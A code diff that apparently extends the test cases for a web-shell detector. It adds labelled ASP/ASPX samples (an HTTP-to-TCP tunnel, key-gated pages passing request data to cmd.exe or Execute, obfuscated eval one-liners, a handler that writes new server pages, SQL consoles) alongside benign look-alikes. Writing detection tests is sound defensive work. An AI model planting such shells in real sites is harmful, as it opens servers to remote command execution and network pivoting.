@@ -27,6 +27,67 @@ const Example kShells[] = {
      "<%\r\ns = \"hydo#uhtxhvw+%n%,\"\r\nExecute(Un(s))\r\nFunction Un(t)\r\nFor i = 1 To Len(t)\r\n"
      "Un = Un & Chr(Asc(Mid(t, i, 1)) - 3)\r\nNext\r\nEnd Function\r\n%>",
      "SC_VBScript_Execute_Decoded"},
+    // HTTP-to-TCP tunnels (reGeorg family), rules/tunnels.yar
+    {"tunnel_ashx_header_target", "/aspnet_client/t.ashx",
+     "<%@ WebHandler Language=\"C#\" Class=\"T\" %>\nusing System.Net;\nusing System.Net.Sockets;\nusing System.Web;\n"
+     "public class T : IHttpHandler, System.Web.SessionState.IRequiresSessionState {\n"
+     " public void ProcessRequest(HttpContext c) {\n"
+     "  string host = c.Request.Headers[\"X-H\"];\n  int port = int.Parse(c.Request.Headers[\"X-P\"]);\n"
+     "  Socket s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);\n"
+     "  s.Connect(new IPEndPoint(IPAddress.Parse(host), port));\n"
+     "  byte[] b = new byte[c.Request.ContentLength];\n  c.Request.InputStream.Read(b, 0, b.Length);\n  s.Send(b);\n"
+     "  byte[] r = new byte[4096];\n  int n = s.Receive(r);\n  c.Response.BinaryWrite(r);\n }\n"
+     " public bool IsReusable { get { return false; } }\n}\n",
+     "SC_Http_Tcp_Tunnel"},
+    {"tunnel_aspx_commands", "/x.aspx",
+     "<%@ Page Language=\"C#\" %><script runat=\"server\">void Page_Load() {\n"
+     " string cmd = Request.QueryString[\"cmd\"];\n"
+     " if (cmd == \"CONNECT\") {\n  var t = new System.Net.Sockets.TcpClient();\n  Session[\"run\"] = t;\n"
+     " } else if (cmd == \"READ\") {\n } else if (cmd == \"FORWARD\") {\n } else if (cmd == \"DISCONNECT\") {\n }\n}</script>",
+     "SC_Http_Tcp_Tunnel_Commands"},
+    // Pages gated by a header/cookie key, rules/request_gates.yar
+    {"header_gate_then_process", "/x.aspx",
+     "<%@ Page Language=\"C#\" %><script runat=\"server\">void Page_Load() {\n"
+     " if (Request.Headers[\"X-Auth\"] != \"k3y-0000\") { Response.StatusCode = 404; return; }\n"
+     " string c = Request.Form[\"d\"];\n System.Diagnostics.Process.Start(\"cmd.exe\", \"/c \" + c);\n}</script>",
+     "SC_Request_Gate_Then_Sink"},
+    {"cookie_gate_then_execute", "/x.asp",
+     "<%\r\nIf Request.Cookies(\"k\") = \"s3cr3t-1\" Then\r\n  x = Session(\"p\")\r\n  Execute x\r\nEnd If\r\n%>",
+     "SC_Request_Gate_Then_Sink"},
+    // Code assembled at run time, rules/runtime_assembly.yar
+    {"vb_execute_letters", "/x.asp",
+     "<% Execute(\"e\"&\"v\"&\"a\"&\"l\"&\" \"&\"r\"&\"e\"&\"q\"&\"u\"&\"e\"&\"s\"&\"t\"&\"(\"&\"k\"&\")\") %>",
+     "SC_VBScript_Eval_Assembled_Pieces"},
+    {"vb_execute_chr_arithmetic", "/x.asp",
+     "<% Execute(Chr(100+1)&Chr(110+8)&Chr(90+7)&Chr(100+8)&Chr(30+2)&Chr(110+4)&Chr(100+1)&Chr(110+3)) %>",
+     "SC_VBScript_Eval_Assembled_Pieces"},
+    {"vb_execute_replace_junk", "/x.asp", "<% Execute(Replace(\"evXXal reXXquest(\"\"k\"\")\", \"XX\", \"\")) %>",
+     "SC_VBScript_Eval_Assembled_Pieces"},
+    {"vb_execute_mid_alphabet", "/x.asp",
+     "<% a = \"abcdefghijklmnopqrstuvwxyz ()\"\r\n"
+     "Execute(Mid(a,5,1)&Mid(a,22,1)&Mid(a,1,1)&Mid(a,12,1)&Mid(a,27,1)&Mid(a,18,1)&Mid(a,5,1)) %>",
+     "SC_VBScript_Eval_Assembled_Pieces"},
+    {"vb_nested_eval", "/x.asp", "<% Execute(Eval(\"Session(\"\"p\"\")\")) %>", "SC_VBScript_Eval_Assembled_Pieces"},
+    {"jscript_eval_reversed", "/x.aspx",
+     "<%@ Page Language=\"JScript\" %><% eval(\"]0[metI.tseuqeR\".split(\"\").reverse().join(\"\")); %>",
+     "SC_JScript_Eval_Assembled"},
+    {"tagless_one_liner", "/inc/conn.inc", "eval request(\"k\")\r\n", "SC_Tagless_Eval_Request"},
+    // Server code writing server pages, SQL consoles, rules/page_writers.yar
+    {"handler_writes_aspx", "/x.ashx",
+     "<%@ WebHandler Language=\"C#\" Class=\"W\" %>\nusing System.IO;\nusing System.Web;\n"
+     "public class W : IHttpHandler {\n public void ProcessRequest(HttpContext c) {\n"
+     "  File.WriteAllText(c.Server.MapPath(\"~/aspnet_client/\" + c.Request[\"n\"] + \".aspx\"), c.Request.Form[\"t\"]);\n }\n"
+     " public bool IsReusable { get { return false; } }\n}\n",
+     "SC_Handler_Writes_Server_Page"},
+    {"sql_console_query_string_connection", "/x.aspx",
+     "<%@ Page Language=\"C#\" %><script runat=\"server\">void Page_Load() {\n"
+     " using (var cn = new SqlConnection(Request.QueryString[\"cs\"])) {\n  cn.Open();\n"
+     "  var r = new SqlCommand(Request.Form[\"q\"], cn).ExecuteReader();\n  while (r.Read()) Response.Write(r[0]);\n }\n}</script>",
+     "SC_SQL_Console_Request_Connection"},
+    {"sql_console_header_connection_asp", "/x.asp",
+     "<%\r\nSet c = Server.CreateObject(\"ADODB.Connection\")\r\nc.Open Request.ServerVariables(\"HTTP_X_CS\")\r\n"
+     "Set rs = c.Execute(Request(\"q\"))\r\n%>",
+     "SC_SQL_Console_Request_Connection"},
 };
 
 const Example kBenign[] = {
@@ -61,6 +122,36 @@ const Example kBenign[] = {
      "<%\r\naction = Request.QueryString(\"action\")\r\nformData = Request.BinaryRead(Request.TotalBytes)\r\n"
      "Set st = Server.CreateObject(\"ADODB.Stream\")\r\nst.Type = 1\r\nst.Open\r\nst.Write formData\r\n"
      "st.SaveToFile Server.MapPath(\"/UploadFiles/\" & Year(Now) & Month(Now) & \".jpg\"), 2\r\n%>",
+     nullptr},
+    {"smtp_port_check", "/admin/check.aspx",
+     "<%@ Page Language=\"C#\" %><script runat=\"server\">void Page_Load() {\n"
+     " var c = new System.Net.Sockets.TcpClient();\n c.Connect(ConfigurationManager.AppSettings[\"smtp\"], 25);\n"
+     " var s = c.GetStream();\n byte[] b = new byte[256];\n int n = s.Read(b, 0, b.Length);\n"
+     " Response.Write(Server.HtmlEncode(System.Text.Encoding.ASCII.GetString(b, 0, n)));\n}</script>",
+     nullptr},
+    {"api_key_header_then_sql", "/api/orders.aspx",
+     "<%@ Page Language=\"C#\" %><script runat=\"server\">void Page_Load() {\n"
+     " if (Request.Headers[\"X-Api-Key\"] != \"0123456789\") { Response.StatusCode = 401; return; }\n"
+     " var cmd = new SqlCommand(\"select count(*) from orders\", conn);\n Response.Write(cmd.ExecuteScalar());\n}</script>",
+     nullptr},
+    {"cms_short_literals_and_conn_execute", "/list.asp",
+     "<%\r\ns = \"a\"&\"b\"&\"c\"&\"d\"&\"e\"\r\nt = \"e\" & \"f\" & \"g\" & \"h\" & \"i\"\r\nSet rs = conn.Execute(sql)\r\n"
+     "Response.Write Replace(\"x y\", \" \", \"&nbsp;\")\r\n%>",
+     nullptr},
+    {"mootools_request_in_script", "/js/app.js",
+     "var r = new Request({url: '/x', method: 'get'}); r.send(); eval(r.response.text);\n", nullptr},
+    {"handler_writes_log", "/log.ashx",
+     "<%@ WebHandler Language=\"C#\" Class=\"L\" %>\nusing System.IO;\nusing System.Web;\n"
+     "public class L : IHttpHandler {\n public void ProcessRequest(HttpContext c) {\n"
+     "  File.AppendAllText(c.Server.MapPath(\"~/App_Data/log.txt\"), c.Request.UserAgent + \"\\n\");\n }\n"
+     " public bool IsReusable { get { return true; } }\n}\n",
+     nullptr},
+    {"configured_connection_with_request_id", "/item.aspx",
+     "<%@ Page Language=\"C#\" %><script runat=\"server\">void Page_Load() {\n"
+     " using (var cn = new SqlConnection(ConfigurationManager.ConnectionStrings[\"db\"].ConnectionString)) {\n"
+     "  var cmd = new SqlCommand(\"select name from items where id=@id\", cn);\n"
+     "  cmd.Parameters.AddWithValue(\"@id\", int.Parse(Request.QueryString[\"id\"]));\n  cn.Open();\n"
+     "  Response.Write(Server.HtmlEncode((string)cmd.ExecuteScalar()));\n }\n}</script>",
      nullptr},
 };
 
